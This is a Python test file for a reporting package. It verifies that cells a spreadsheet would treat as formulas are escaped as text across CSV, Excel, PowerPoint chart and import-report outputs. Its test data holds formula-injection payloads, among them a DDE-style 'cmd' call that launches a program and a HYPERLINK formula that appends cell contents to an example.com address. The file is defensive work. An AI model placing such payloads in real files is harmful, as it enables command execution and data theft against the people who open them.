"""A cell that a spreadsheet would take for a formula becomes text in every file; numbers stay numbers."""

import ast
import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook
from pptx import Presentation

from insteg import files
from insteg.collect.own import details
from insteg.figures.pictures import Series, ordered_dots, series
from insteg.files.cells import csv_text, workbook
from insteg.files.pptx.presentation import SlideContent, pptx
from insteg.privacy.formulas import as_written, harmless, harmless_table
from insteg.web.api import formats, tried

FORMULAS = [
    '=HYPERLINK("http://example.com/?x="&A1,"Klicka")', "=1+1", "+46 Exempel", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    "\n=1+1", "  =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", " ＝1", "- en punkt", "--1", "=",
]  # fmt: skip
HARMLESS = ["Lär", "2281", "", "a=b", "1+1", "−0,3", "–", "'", "en @", "3 %", "<5", "(=1)"]
NUMBERS = ["-3.2", "-3,2", "+4", "-12 %", "-1e5", "-3", "-1 200,5"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_and_can_be_read_back(text):
    assert harmless(text) == f"'{text}" and as_written(harmless(text)) == text


@pytest.mark.parametrize("text", [*HARMLESS, *NUMBERS])
def test_other_text_and_numbers_written_as_text_stay(text):
    assert harmless(text) == text


@given(st.text(max_size=20))
@example("'=1")
@example("'")
@example("'t Hooft")
@example("'90-talet")
def test_whatever_is_written_comes_back(text):
    """Except an apostrophe that somebody wrote before a formula himself: one of them is enough."""
    assert as_written(harmless(text)) == (text[1:] if harmless(text[1:]) != text[1:] and text[0] == "'" else text)
    assert harmless(harmless(text)) == harmless(text)


def test_numbers_stay_numbers():
    frame = pd.DataFrame({"value": [-3.2, 4.0], "count": [-1, 2], "=text": ["=1", "x"], "mixed": [-3.2, "=1"]})
    ready = harmless_table(frame)
    assert ready["value"].tolist() == [-3.2, 4.0] and ready["count"].dtype == frame["count"].dtype
    assert list(ready.columns) == ["value", "count", "'=text", "mixed"] and ready["mixed"].tolist() == [-3.2, "'=1"]
    assert frame.columns[2] == "=text", "the table that was given is left as it was"


TABLE = pd.DataFrame({"titel": FORMULAS, "belopp": [-1.5] * len(FORMULAS), "=rubrik": ["x"] * len(FORMULAS)})


def cells_of(book: bytes):
    return [cell for sheet in load_workbook(io.BytesIO(book)).worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("language", ["sv", "en"])
def test_no_cell_of_a_workbook_is_a_formula(language):
    cells = cells_of(files.TABLE_FORMATS["xlsx"](TABLE, language))
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert [cell.value for cell in cells if cell.data_type == "n"] == [-1.5] * len(FORMULAS)
    assert [cell.value for cell in cells if cell.column == 1][2] == "'=1+1"


@pytest.mark.parametrize("kind", ["csv", "zip"])
def test_no_cell_of_a_csv_begins_like_one(kind):
    content = files.TABLE_FORMATS[kind](TABLE, "en")
    if kind == "zip":
        import zipfile

        content = zipfile.ZipFile(io.BytesIO(content)).read("uppgifter.csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == [f"'{text}" for text in FORMULAS]
    assert rows[0] == ["titel", "belopp", "'=rubrik"] and {row[1] for row in rows[1:]} == {"-1.5"}


def test_the_open_data_as_csv_is_harmless_too():
    row = dict.fromkeys(tried.InterventionRow.model_fields)
    counts = {name: 1 for name in row if name.endswith("_count")}
    frame = pd.DataFrame([{**row, "intervention_type": "x", "title": "=1+1", "definition": "+1 x", **counts}])
    text = formats.csv(frame, tried.InterventionRow, None).decode()  # type: ignore[arg-type]
    assert "\r\nx,'=1+1,'+1 x,1,1,1,1,1,1,1,,1,1,1,1,\r\n" in text


def test_the_templates_hold_no_formula():
    from insteg.files import evidence_template, outcome_template, project_template

    for book in (outcome_template.workbook("sv"), project_template.workbook("en"), evidence_template.workbook("sv")):
        assert not [cell.value for cell in cells_of(book) if cell.data_type == "f"]


def test_the_review_file_of_a_room_comes_back_through_the_import(tmp_path):
    from datetime import datetime

    from insteg.collect.own import lessons
    from insteg.show.rooms import take_along

    kept = [{"text_sv": "=1+1 blev tre", "text_en": "", "level": "organisation", "actors": "municipality", "types": ""}]
    file = tmp_path / "lardomar.csv"
    file.write_bytes(take_along.lessons(kept, "ABCD", datetime(2026, 11, 1), "+Seminarium"))
    assert "'=1+1 blev tre" in file.read_text(encoding="utf-8-sig") and "'+Seminarium" in file.read_text(encoding="utf-8-sig")
    found = lessons.plan(file).new.iloc[0]
    assert (found["text_sv"], found["seminar"]) == ("=1+1 blev tre", "+Seminarium")


def test_one_function_writes_both():
    assert "'=1" in csv_text(pd.DataFrame({"a": ["=1"]}))
    assert {cell.value for cell in cells_of(workbook({"A": pd.DataFrame({"a": ["=1"]})}, "sv"))} == {"a", "'=1"}


# What makes CSV or XLSX, and who may call it: the one writer for readers, and the stores in data/raw, which are read back and never sent.
MAKERS = {"to_csv", "to_excel", "ExcelWriter", "DictWriter", "writer", "append", "write_csv"}
WRITER = "files/cells.py"
STORES = {"collect/own/lessons.py", "collect/own/shelf.py", "collect/own/outcomes.py"}
# The report of an import lies beside the file that was brought: the writing side can't know the reading side's writer, only its rule.
REPORT = "collect/own/details.py"


def writers(path: Path) -> set[str]:
    """The calls in a module that make a file of cells, or put text straight into one."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    calls = [node for node in ast.walk(tree) if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)]
    found = {call.func.attr for call in calls if call.func.attr in MAKERS - {"append", "writer"}}
    owner = {(call.func.attr, getattr(call.func.value, "id", "")) for call in calls}
    found |= {"writer"} if ("writer", "csv") in owner else set()
    found |= {"append"} if ("append", "sheet") in owner else set()
    # sheet.cell(row, column, value) would write past the rule; sheet.cell(row, column) only finds the cell.
    found |= {"cell"} if any(call.func.attr == "cell" and (len(call.args) > 2 or call.keywords) for call in calls) else set()
    return found


def test_no_module_writes_cells_past_the_rule():
    package = Path(files.__file__).parent.parent
    found = {str(path.relative_to(package)): made for path in package.rglob("*.py") if (made := writers(path))}
    assert WRITER in found, "the test must see the one that is allowed"
    assert not {name: made for name, made in found.items() if name not in (WRITER, REPORT) and name not in STORES}


def test_the_report_of_an_import_is_harmless_too(tmp_path):
    details.kept(tmp_path / "mina.csv", [("new", "2", "P1", "Titel", "=1+1", "-3", "@x")])
    assert (tmp_path / "mina-import-report.csv").read_text(encoding="utf-8-sig").splitlines()[1] == "new;2;P1;Titel;'=1+1;-3;'@x"


def _curve():
    rows = pd.DataFrame({"area_code": "x", "period": ["2020", "=2021"], "value": [1.0, 2.0], "text": ""})
    return series(rows, [Series("=1+1", "x")], [], [], "Procent")


def _dots():
    row = {"area_code": "x", "name": "Ånge", "value": 2.0, "low": 1.0, "high": 3.0, "group": 1, "text": "", "selected": False}
    return ordered_dots(pd.DataFrame([row, {**row, "name": "=1+1", "selected": True}]), [], "=1+1")


@pytest.mark.parametrize("picture", [_curve(), _dots()], ids=["line", "dots"])
def test_the_workbook_behind_a_powerpoint_chart_holds_no_formula(picture):
    slide = Presentation(io.BytesIO(pptx("T", "U", [SlideContent("H", "S", "K", picture=picture)], "sv"))).slides[1]
    chart = next(shape.chart for shape in slide.shapes if shape.has_chart)
    cells = list(cells_of(chart.part.chart_workbook.xlsx_part.blob))
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'=1+1" in texts and not any(cell.data_type == "f" or text.startswith("=") for cell in cells for text in texts)
